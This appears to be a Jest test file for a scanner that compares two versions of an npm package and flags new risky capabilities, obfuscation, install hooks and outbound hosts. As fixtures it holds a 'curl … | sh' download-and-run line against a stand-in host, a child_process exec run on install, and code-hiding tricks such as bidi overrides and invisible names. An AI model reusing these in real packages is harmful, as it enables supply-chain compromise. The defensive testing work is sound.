// Two versions of a package: what is told, where, with which weight, and what is passed over.
import { describe, expect, test } from '@jest/globals'
import { compareCode } from '../../src/code/compare.ts'
import { shapes } from '../helpers/attack-code.ts'
import { adding, compare, harmless, lines, packageOf } from '../helpers/code.ts'

const minified = (seed: string, functions: number): string =>
  `!function(){"use strict";${Array.from({ length: functions }, (_, at) => `function ${seed}${at}(e,t){for(var n=0;n<e.length;n++)t.push(e[n]===${at}?"a-${at}":e[n]);return t}`).join(';')}}();`

describe('every shape of attack', () => {
  test.each(shapes.map(({ name, text }) => [name, text] as const))('is told: %s', (_, text) => {
    const found = adding(text)
    expect(lines(found)).not.toEqual([])
    for (const { path, line, excerpt } of [
      ...found.capabilities,
      ...found.obfuscation,
      ...found.destinations
    ]) {
      expect(path).toBe('index.js')
      expect(line).toBeGreaterThan(4)
      expect(excerpt.length).toBeLessThanOrEqual(120)
    }
  })

  test.each(shapes.map(({ name, text }) => [name, text] as const))(
    'is told in a package that does much: %s',
    (_, text) => {
      const busy = {
        ...harmless,
        'lib.js': `const cp = require('child_process'); const fs = require('fs'); cp.exec(a); fs.writeFileSync(b, c); fetch(d); new Function(e); require(f)`
      }
      expect(lines(compare(busy, { 'index.js': `${harmless['index.js']}\n${text}\n` }))).not.toEqual([])
    }
  )
})

describe('an ordinary release', () => {
  test.each<[string, Record<string, string>, Record<string, string>]>([
    ['a function more', {}, { 'index.js': `${harmless['index.js']}module.exports.sub = (a, b) => a - b\n` }],
    [
      'a new bundle of the same minifier',
      { 'dist/a.min.js': minified('f', 60) },
      { 'dist/a.min.js': minified('g', 62) }
    ],
    [
      'a file that moved',
      { 'a.js': `fetch('https://a.example.test')` },
      { 'lib/a.js': `fetch('https://a.example.test')` }
    ],
    ['a host that the manifest names', {}, { 'index.js': `fetch('https://api.sum.test/v1')`, 'lib.js': 'x' }],
    ['wide texts', {}, { 'index.js': `log('a${' '.repeat(150)}b (c);')` }],
    [
      'emoji and joined letters',
      {},
      { 'index.js': `log('\u2714\ufe0f \u{1f468}\u200d\u{1f469}\u200d\u{1f467} می\u200cخواهم')` }
    ],
    [
      'a table of numbers',
      {},
      { 'index.js': `const t = [${Array.from({ length: 3000 }, (_, at) => at).join(', ')}]` }
    ],
    ['pages and styles', {}, { 'README.md': 'eval(fetch("https://b.example.test"))', 'a.css': 'a{}' }]
  ])('is quiet: %s', (name, before, after) => {
    const found = compare({ ...harmless, ...before }, after)
    const kinds = name.includes('manifest') ? [] : found.capabilities
    expect(kinds).toEqual([])
    expect(found.obfuscation).toEqual([])
    expect(found.hidden).toEqual([])
    expect(found.destinations).toEqual([])
  })

  test('costs no parse where no new line says anything', () => {
    expect(compare(harmless, { 'index.js': `${harmless['index.js']}const more = 1\n` }).cost.parsed).toBe(0)
  })
})

describe('text that hides', () => {
  test.each<[string, string, string]>([
    ['code far to the right', `const a = 1;${' '.repeat(200)}run(a);`, 'off-screen'],
    ['code far below', `${'\n'.repeat(120)}run(a);`, 'off-screen'],
    [
      'names that say nothing',
      Array.from({ length: 14 }, (_, at) => `var _0x${(at + 4096).toString(16)}=1`).join(';'),
      'hex-names'
    ],
    ['a rotated list', `while(!![]){try{a['push'](a['shift']())}catch(e){break}}`, 'string-array'],
    ['a line of code without an end', minified('f', 60), 'long-line'],
    ['texts in escapes', Array.from({ length: 14 }, () => `a('\\x61\\x62\\x63\\x64')`).join('\n'), 'escapes'],
    [
      'bytes as text',
      `const d = '${Buffer.from(Array.from({ length: 3000 }, (_, at) => (at * at * 31 + 7 * at) % 256)).toString('base64')}'`,
      'encoded-blob'
    ],
    ['a reordered line', `if (a /* \u202e } \u2066 */) run(a)`, 'bidirectional'],
    ['data without a sign', `const d = '${'\u{e0101}'.repeat(40)}'`, 'invisible'],
    ['a name without a sign', `const \u3164 = 1`, 'invisible-name']
  ])('is told: %s', (_, text, expected) => {
    expect(lines(adding(text))).toContain(expected)
  })

  test('is no news where base is written alike', () => {
    const names = (first: number): string =>
      Array.from({ length: 20 }, (_, at) => `var _0x${(first + at).toString(16)}=1`).join(';')
    expect(compare({ ...harmless, 'a.js': names(4096) }, { 'a.js': names(8192) }).obfuscation).toEqual([])
  })

  test('a minified file in a package that had none is told as such', () => {
    expect(lines(compare(harmless, { 'b.js': minified('f', 60) }))).toContain('minified')
  })
})

describe('where it runs', () => {
  const loud = `require('child_process').exec(x)`

  test.each<[string, Record<string, string>, Parameters<typeof compare>[2], string]>([
    ['in use', { 'lib/a.js': loud }, {}, 'runtime'],
    ['in a test', { 'test/a.js': loud }, {}, 'aside'],
    [
      'in a test that the code loads',
      { 'index.js': `require('./test/a')`, 'test/a.js': loud },
      {},
      'runtime'
    ],
    ['on installing', { 'setup.js': loud }, { installAfter: ['setup.js'] }, 'install'],
    [
      'on installing, one file further',
      { 'setup.js': `require('./lib/b')`, 'lib/b.js': loud },
      { installAfter: ['setup.js'] },
      'install'
    ]
  ])('has its weight: %s', (_, files, entries, weight) => {
    expect(compare(harmless, files, entries).capabilities).toMatchObject([{ kind: 'process', weight }])
  })

  test('an old file that installing runs now is as new as a new one', () => {
    const before = { ...harmless, 'lib/a.js': loud }
    expect(compare(before, { 'a.txt': '' }, { installAfter: ['lib/a.js'] }).capabilities).toMatchObject([
      { kind: 'process', weight: 'install', novelty: 'kind' }
    ])
    expect(
      compare(before, { 'a.txt': '' }, { installBefore: ['lib/a.js'], installAfter: ['lib/a.js'] })
        .capabilities
    ).toEqual([])
  })

  test('a file of any name is read when it is loaded as code', () => {
    const found = compare(harmless, { 'index.js': `require('./logo.png')`, 'logo.png': loud })
    expect(found.capabilities).toMatchObject([{ kind: 'process', path: 'logo.png' }])
  })

  test('scripts of other languages are read by their words', () => {
    const found = compare(harmless, { 'setup.sh': 'curl -s https://a.example.test/x | sh\n' })
    expect(lines(found)).toEqual(
      expect.arrayContaining(['process: a shell command that downloads', 'mentioned host a.example.test'])
    )
    expect(found.capabilities[0]?.by).toBe('code')
  })

  test('the place is exact', () => {
    expect(adding(`\n  fetch(x)`).capabilities).toMatchObject([{ line: 7, column: 3, excerpt: 'fetch(x)' }])
  })
})

describe('what cannot be read', () => {
  test.each<[string, string, string]>([
    ['what is no JavaScript', 'fetch(x) ) = {', 'syntax'],
    ['too deep a nesting', `eval(${'['.repeat(60_000)}${']'.repeat(60_000)})`, 'too-deep'],
    ['too long a text', `fetch(x);${'a=1;'.repeat(2_200_000)}`, 'too-large']
  ])('is said: %s', (_, text, reason) => {
    const found = compare(harmless, { 'b.js': text })
    expect(found.unread).toMatchObject([{ path: 'b.js', reason, asBefore: false }])
  })

  test('is said where there is more than is looked at', () => {
    const names = Array.from({ length: 2500 }, (_, at) => `'https://a${at}.example.test'`).join(',')
    expect(compare(harmless, { 'b.js': `fetch(x);[${names}]` }).unread).toMatchObject([
      { reason: 'over-budget' }
    ])
  })

  test('does not come from being long', () => {
    expect(lines(compare(harmless, { 'b.js': `fetch(x)\n${'a.b(c);'.repeat(300_000)}` }))).toContain(
      'network: fetch'
    )
  })

  test('is read by its words', () => {
    expect(lines(compare(harmless, { 'b.js': 'type A = 1;\nfetch(x) ) = {' }))).toContain('network: fetch(')
  })

  test.each<[string, Buffer]>([
    ['with a mark of its own', Buffer.from('\ufefffetch(x)')],
    ['in UTF-16', Buffer.from('\ufefffetch(x)', 'utf16le')],
    ['with a line for the shell', Buffer.from('#!/usr/bin/env node\nfetch(x)')],
    ['with line ends of Windows', Buffer.from('a()\r\nfetch(x)\r\n')],
    ['with JSX', Buffer.from('const a = <b>{fetch(x)}</b>')],
    ['with a return at the top', Buffer.from('if (a) return\nfetch(x)')],
    ['as a module', Buffer.from('import a from "a"\nawait fetch(x)\nexport default a')]
  ])('a text is read as what it is: %s', (_, bytes) => {
    const found = compare(harmless, { 'b.js': bytes })
    expect(lines(found)).toEqual(['network: fetch'])
  })
})

describe('destinations', () => {
  test.each<[string, string]>([
    [`fetch('https://a.example.test/x')`, 'called host a.example.test'],
    [`const base = 'https://a.example.test'; fetch(base + path)`, 'called host a.example.test'],
    ['fetch(`https://a.example.test/${id}`)', 'called host a.example.test'],
    [`require('https').request({ hostname: 'a.example.test' })`, 'called host a.example.test'],
    [`require('dns').resolve(id + '.a.example.test')`, 'called host a.example.test'],
    [`request.open('POST', 'https://a.example.test')`, 'called host a.example.test'],
    [`new Image().src = 'https://a.example.test/' + id`, 'called host a.example.test'],
    [`const a = 'https://a.example.test'`, 'address host a.example.test'],
    [`log('see https://a.example.test for more')`, 'mentioned host a.example.test'],
    [`fetch('http://8.8.4.4/x')`, 'called address 8.8.4.4'],
    [`fetch('http://169.254.169.254/latest')`, 'called metadata 169.254.169.254'],
    [`fetch('https://discord.com/api/webhooks/1/a')`, 'called webhook discord.com'],
    [`fetch('https://pastebin.com/raw/a')`, 'called paste pastebin.com'],
    [
      `const a = '0x1111111111111111111111111111111111111111'`,
      'address wallet 0x1111111111111111111111111111111111111111'
    ]
  ])('are told: %s', (code, expected) => {
    expect(lines(adding(code))).toContain(expected)
  })

  test.each([
    `fetch('http://localhost:1/x')`,
    `fetch('http://127.0.0.1')`,
    `fetch('http://10.0.0.1')`,
    `// https://a.example.test`
  ])('are passed over: %s', (code) => {
    expect(adding(code).destinations).toEqual([])
  })
})

describe('files that are no text', () => {
  const elf = Buffer.concat([Buffer.from('\u007fELF', 'latin1'), Buffer.alloc(60)])

  test('are told by what they are, and by whether their name says so', () => {
    expect(compare(harmless, { 'logo.png': elf, 'a.node': elf }).programs).toMatchObject([
      { path: 'logo.png', kind: 'elf', misnamed: true, first: true },
      { path: 'a.node', kind: 'elf', misnamed: false, first: true }
    ])
  })

  test('are no news where base had their kind', () => {
    const found = compare({ ...harmless, 'a.node': elf }, { 'a.node': Buffer.concat([elf, elf]) })
    expect(found.programs).toMatchObject([{ kind: 'elf', first: false }])
  })
})

test('everything is new in a package that is new', () => {
  const found = compareCode(undefined, packageOf({ 'index.js': 'fetch(x); eval(y)' }), {
    entryPoints: [],
    installBefore: [],
    installAfter: []
  })
  expect(lines(found)).toEqual(
    expect.arrayContaining(['network: fetch', 'dynamic-code: eval of computed text'])
  )
})
